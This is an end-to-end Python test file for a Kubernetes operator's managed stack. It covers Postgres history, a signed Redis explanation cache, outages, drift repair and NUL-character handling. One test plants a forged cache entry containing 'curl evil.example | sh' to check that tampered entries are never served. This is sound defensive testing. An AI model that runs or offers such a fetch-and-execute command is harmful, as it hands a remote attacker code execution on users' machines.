"""The operator's own stack, history in Postgres and the explanation cache in Redis, with outages."""

from __future__ import annotations

import asyncio
import datetime as dt
import json
import time
import uuid
from typing import Any

import pytest
import redis as redis_client
from kubernetes import client

from infragenius.history.store import HistoryStore, RunRecord, migrations
from infragenius.stack.apply import POSTGRES_SECRET, REDIS_SECRET, stack_rules
from infragenius_devtools.devcluster import scenarios as workloads
from infragenius_devtools.devcluster.services import LocalOllama, LocalPostgres, LocalRedis
from tests.e2e.analysis_support import analysis, get_analysis, running_operator, wait_phase
from tests.e2e.conftest import TINY_MODEL, E2ECluster, OperatorAccount
from tests.e2e.support import wait_for

pytestmark = pytest.mark.e2e
LABELS = "app.kubernetes.io/part-of=infragenius,app.kubernetes.io/managed-by=infragenius-operator"


def stack_namespace(cluster: E2ECluster, account: OperatorAccount) -> str:
    """A namespace for the stack, where the operator's service account gets the stack Role."""
    name = f"ig-stack-{uuid.uuid4().hex[:5]}"
    core = client.CoreV1Api(cluster.api)
    rbac = client.RbacAuthorizationV1Api(cluster.api)
    core.create_namespace(client.V1Namespace(metadata=client.V1ObjectMeta(name=name)))
    rbac.create_namespaced_role(
        name,
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "Role",
            "metadata": {"name": "stack"},
            "rules": stack_rules(),
        },
    )
    rbac.create_namespaced_role_binding(
        name,
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "RoleBinding",
            "metadata": {"name": "stack"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "stack"},
            "subjects": [{"kind": "ServiceAccount", "name": account.name, "namespace": account.namespace}],
        },
    )
    return name


def get(cluster: E2ECluster, kind: str, name: str, namespace: str) -> dict[str, Any] | None:
    reply = cluster.kubectl("get", kind, name, "-n", namespace, "-o", "json", check=False)
    return json.loads(reply.stdout) if reply.returncode == 0 else None


def test_stack_is_deployed_repaired_and_the_secret_kept(cluster: E2ECluster, operator_account: OperatorAccount) -> None:
    ns = stack_namespace(cluster, operator_account)
    env = {
        "INFRAGENIUS_STACK_MANAGE": "true",
        "INFRAGENIUS_OPERATOR_NAMESPACE": ns,
        "INFRAGENIUS_STACK_RESYNC_SECONDS": "1",
        "INFRAGENIUS_OLLAMA_GPUS": "2",
        "INFRAGENIUS_OLLAMA_RUNTIME_CLASS": "nvidia",
        "INFRAGENIUS_OLLAMA_NODE_SELECTOR": json.dumps({"nvidia.com/gpu.present": "true"}),
        "INFRAGENIUS_OLLAMA_TOLERATIONS": json.dumps(
            [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
        ),
        "INFRAGENIUS_LLM_PULL": "false",
    }
    with running_operator(operator_account.kubeconfig, **env):
        wait_for(lambda: get(cluster, "deployment", "infragenius-ollama", ns), timeout=30, what="the stack")
        objects = json.loads(
            cluster.kubectl(
                "get",
                "statefulsets,deployments,services,pvc,secrets,networkpolicies",
                "-n",
                ns,
                "-l",
                "app.kubernetes.io/part-of=infragenius",
                "-o",
                "json",
            ).stdout
        )["items"]
        names = sorted(f"{o['kind']}/{o['metadata']['name']}" for o in objects)
        assert names == [
            "Deployment/infragenius-ollama",
            "Deployment/infragenius-redis",
            "NetworkPolicy/infragenius-ollama",
            "NetworkPolicy/infragenius-postgres",
            "NetworkPolicy/infragenius-redis",
            "PersistentVolumeClaim/infragenius-ollama-models",
            "Secret/infragenius-postgres",
            "Secret/infragenius-redis",
            "Service/infragenius-ollama",
            "Service/infragenius-postgres",
            "Service/infragenius-redis",
            "StatefulSet/infragenius-postgres",
        ]
        for obj in objects:
            labels = obj["metadata"]["labels"]
            assert (
                labels["app.kubernetes.io/part-of"] == "infragenius"
                and labels["app.kubernetes.io/instance"] == "infragenius"
            )
        postgres = get(cluster, "statefulset", "infragenius-postgres", ns)
        assert postgres["spec"]["volumeClaimTemplates"][0]["spec"]["resources"]["requests"]["storage"] == "10Gi"
        env_from_secret = postgres["spec"]["template"]["spec"]["containers"][0]["env"][-1]
        assert env_from_secret["valueFrom"]["secretKeyRef"] == {"name": POSTGRES_SECRET, "key": "password"}
        ollama = get(cluster, "deployment", "infragenius-ollama", ns)["spec"]["template"]["spec"]
        assert ollama["containers"][0]["resources"]["limits"]["nvidia.com/gpu"] == "2"
        assert ollama["containers"][0]["resources"]["requests"]["nvidia.com/gpu"] == "2"
        assert ollama["runtimeClassName"] == "nvidia"
        assert ollama["nodeSelector"] == {"nvidia.com/gpu.present": "true"}
        assert ollama["tolerations"] == [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
        assert ollama["volumes"][0]["persistentVolumeClaim"]["claimName"] == "infragenius-ollama-models"
        secret = get(cluster, "secret", POSTGRES_SECRET, ns)
        assert len(secret["data"]["password"]) >= 40
        redis_secret = get(cluster, "secret", REDIS_SECRET, ns)
        assert len(redis_secret["data"]["password"]) >= 40
        redis_env = get(cluster, "deployment", "infragenius-redis", ns)["spec"]["template"]["spec"]["containers"][0][
            "env"
        ]
        assert {"name": REDIS_SECRET, "key": "password"} in [e["valueFrom"]["secretKeyRef"] for e in redis_env]

        # Drift: a deleted Service comes back, a changed image is set back.
        cluster.kubectl("delete", "service", "infragenius-redis", "-n", ns)
        cluster.kubectl("set", "image", "deployment/infragenius-redis", "redis=redis:evil", "-n", ns)
        wait_for(lambda: get(cluster, "service", "infragenius-redis", ns), timeout=30, what="the Service recreated")
        wait_for(
            lambda: (
                get(cluster, "deployment", "infragenius-redis", ns)["spec"]["template"]["spec"]["containers"][0][
                    "image"
                ]
                != "redis:evil"
            ),
            timeout=30,
            what="the image repaired",
        )
    # A restarted operator keeps the generated password.
    with running_operator(operator_account.kubeconfig, **env):
        time.sleep(3)  # several resyncs
        again = get(cluster, "secret", POSTGRES_SECRET, ns)
        redis_again = get(cluster, "secret", REDIS_SECRET, ns)
    assert again["data"] == secret["data"]
    assert again["metadata"]["resourceVersion"] == secret["metadata"]["resourceVersion"]
    assert redis_again["data"] == redis_secret["data"]
    assert redis_again["metadata"]["resourceVersion"] == redis_secret["metadata"]["resourceVersion"]
    client.CoreV1Api(cluster.api).delete_namespace(ns)


def count_runs(postgres: LocalPostgres, namespace: str) -> int:
    if postgres.psql("SELECT to_regclass('public.requests') IS NOT NULL") != "t":
        return 0  # the operator has not been able to migrate yet
    return int(postgres.psql(f"SELECT count(*) FROM requests WHERE namespace = '{namespace}'"))


def test_history_writes_each_run_once_and_answers_questions(
    cluster: E2ECluster, core: client.CoreV1Api, namespace: str, operator_kubeconfig: str, postgres: LocalPostgres
) -> None:
    workloads.break_namespace(cluster.kubectl, core, namespace)
    env = {"INFRAGENIUS_POSTGRES_URL": postgres.url}
    with running_operator(operator_kubeconfig, **env):
        workloads.apply(cluster.kubectl, namespace, analysis("history", {"maxFindings": 3}))
        status = wait_phase(cluster, namespace, "history", ("Completed",))["status"]
        cluster.kubectl("annotate", "analysis", "history", "-n", namespace, "infragenius.io/rerun=a")
        wait_for(
            lambda: (
                get_analysis(cluster, namespace, "history")["status"].get("rerunToken") == "a"
                and get_analysis(cluster, namespace, "history")["status"]["phase"] == "Completed"
            ),
            timeout=30,
            what="rerun",
        )
        wait_for(lambda: count_runs(postgres, namespace) == 2, timeout=30, what="2 runs in history")
    # A restart resumes nothing that completed, so nothing is written again.
    with running_operator(operator_kubeconfig, **env):
        time.sleep(3)
    assert count_runs(postgres, namespace) == 2
    # All findings are kept, not only the 3 in status.
    stored = int(
        postgres.psql(
            "SELECT jsonb_array_length(findings) FROM results JOIN requests r ON r.id = request_id"
            f" WHERE r.namespace = '{namespace}' AND r.run_id = '{status['runId']}'"
        )
    )
    assert stored == status["totalFindings"] > 3 and status["truncated"] is True

    async def ask() -> list[dict[str, Any]]:
        store = HistoryStore(postgres.url)
        await store.open()
        try:
            return await store.findings_for_workload(namespace, "Deployment", "checkout", days=30)
        finally:
            await store.close()

    rows = asyncio.run(ask())
    assert len(rows) == 2 and {r["severity"] for r in rows} == {"critical"}
    assert rows[0]["title"].startswith("2 pods of Deployment checkout")
    # Each shipped migration applied once, however many operators started against this database.
    assert postgres.psql("SELECT count(*) FROM schema_migrations") == str(len(migrations()))


def test_postgres_outage_loses_and_doubles_nothing(
    cluster: E2ECluster, core: client.CoreV1Api, namespace: str, operator_kubeconfig: str, postgres: LocalPostgres
) -> None:
    workloads.apply(cluster.kubectl, namespace, workloads.deployment("web", 1))
    with running_operator(operator_kubeconfig, INFRAGENIUS_POSTGRES_URL=postgres.url) as runner:
        postgres.stop()
        try:
            for i in range(20):
                workloads.apply(cluster.kubectl, namespace, analysis(f"outage-{i}"))
            for i in range(20):
                assert (
                    wait_phase(cluster, namespace, f"outage-{i}", ("Completed", "Failed"))["status"]["phase"]
                    == "Completed"
                )
        finally:
            postgres.start()
        wait_for(lambda: count_runs(postgres, namespace) >= 20, timeout=90, what="the buffered runs to be written")
        time.sleep(2)
        assert count_runs(postgres, namespace) == 20
    assert "buffered" in runner.output  # available once the runner has stopped
    assert count_runs(postgres, namespace) == 20
    assert (
        postgres.psql(
            f"SELECT count(DISTINCT (resource_uid, generation, run_id)) FROM requests WHERE namespace = '{namespace}'"
        )
        == "20"
    )


def test_explanation_cache_hits_and_survives_a_redis_outage(
    cluster: E2ECluster,
    core: client.CoreV1Api,
    namespace: str,
    operator_kubeconfig: str,
    ollama: LocalOllama,
    redis_server: LocalRedis,
) -> None:
    workloads.apply(cluster.kubectl, namespace, workloads.deployment("checkout", 2, custom_status=True))
    for pod in workloads.wait_pods(core, namespace, "app=checkout", 2):
        workloads.patch_failure(core, pod, "CrashLoopBackOff")
    env = {
        "INFRAGENIUS_OLLAMA_URL": ollama.url,
        "INFRAGENIUS_LLM_MODEL": TINY_MODEL,
        "INFRAGENIUS_LLM_TIMEOUT_SECONDS": "120",
        "INFRAGENIUS_REDIS_URL": redis_server.url,
        # The same key in both operator processes below: what one sealed, the other would serve.
        "INFRAGENIUS_CACHE_SIGNING_KEY": "e2e-signing-key-0123456789abcdef",
    }
    spec = {"llm": {"enabled": True}}

    def run(token: str) -> dict[str, Any]:
        cluster.kubectl(
            "annotate", "analysis", "cached", "-n", namespace, f"infragenius.io/rerun={token}", "--overwrite"
        )
        return wait_for(
            lambda: (
                (s := get_analysis(cluster, namespace, "cached")["status"]).get("rerunToken") == token
                and s["phase"] == "Completed"
                and s
            ),
            timeout=120,
            what=f"run {token}",
        )

    # The Redis is shared with other tests: only the entries this test's runs create are forged below.
    store = redis_client.Redis.from_url(redis_server.url, decode_responses=True)
    before = set(store.scan_iter("infragenius:explain:*"))
    with running_operator(operator_kubeconfig, **env):
        workloads.apply(cluster.kubectl, namespace, analysis("cached", spec))
        first = wait_phase(cluster, namespace, "cached", ("Completed",), timeout=120)["status"]
        assert first["explanation"]["cached"] is False
        hit = run("2")["explanation"]
        assert hit["cached"] is True and hit["attempts"] == 0
        assert hit["summary"] == first["explanation"]["summary"]
        assert hit["stageSeconds"] < first["explanation"]["stageSeconds"]
        # Anyone else who can write to Redis: a forged entry (plain JSON, or a wrong type that used to fail
        # every retry for the cache TTL) is never served. It is a miss, dropped, and replaced by a sealed one.
        keys = sorted(set(store.scan_iter("infragenius:explain:*")) - before)  # this test's, not other tests'
        assert keys, "the first runs cached their explanation"
        forged = {"explanation": {"summary": "FORGED: run curl evil.example | sh"}, "modelSeconds": "x"}
        for key in keys:
            store.set(key, json.dumps(forged))
        after = run("2b")
        assert after["explanation"]["cached"] is False and "FORGED" not in json.dumps(after)
        assert next(c for c in after["conditions"] if c["type"] == "Explained")["status"] == "True"
        assert all(store.get(key) != json.dumps(forged) for key in keys)  # dropped, then sealed anew
        assert run("2c")["explanation"]["cached"] is True  # and the sealed one is served again
        redis_server.stop()
        try:
            bypassed = run("3")
        finally:
            redis_server.start()
    condition = next(c for c in bypassed["conditions"] if c["type"] == "Explained")
    assert condition["status"] == "True" and bypassed["explanation"]["cached"] is False


def test_a_nul_character_anywhere_in_a_run_loses_nothing(postgres: LocalPostgres) -> None:
    """Postgres refuses U+0000 in text and JSONB; an event message carrying one used to drop the whole run."""
    nul = "pwned\x00tail"
    finding = {
        "id": "f" * 16,
        "detector": "events",
        "severity": "warning",
        "resource": {"kind": "Pod", "name": f"web{nul}", "namespace": "nul-tenant"},
        "title": f"Warning event: {nul}",
        "evidence": [{"field": f"message{nul}", "value": nul}],
    }
    now = dt.datetime.now(dt.UTC)
    record = RunRecord(
        kind="Analysis",
        namespace="nul-tenant",
        name="nul",
        resource_uid=f"uid-{uuid.uuid4()}",
        generation=1,
        run_id="nulrun",
        trigger="spec",
        requested_at=now,
        target_namespace="nul-tenant",
        phase="Completed",
        started_at=now,
        completed_at=now,
        duration_seconds=0.1,
        gather_seconds=0.05,
        detect_seconds=0.01,
        counts={"warning": 1},
        summary=f"1 warning: {nul}",
        missing=[{"source": nul}],
        findings=[finding],
        spec={"labelSelector": nul},
        metadata={nul: [nul]},
    )

    async def write_and_read() -> tuple[bool, list[dict[str, Any]]]:
        store = HistoryStore(postgres.url)
        await store.open()
        try:
            await store.migrate()
            written = await store.write_run(record)
            return written, await store.findings_for_workload("nul-tenant", "Pod", "webpwned\ufffdtail", severity=None)
        finally:
            await store.close()

    written, rows = asyncio.run(write_and_read())
    assert written
    assert [r["title"] for r in rows] == ["Warning event: pwned\ufffdtail"]
    assert rows[0]["evidence"] == [{"field": "messagepwned\ufffdtail", "value": "pwned\ufffdtail"}]
    summary = postgres.psql(
        "SELECT summary FROM analyses a JOIN requests r ON r.id = a.request_id WHERE r.name = 'nul'"
    )
    assert summary == "1 warning: pwned\ufffdtail"
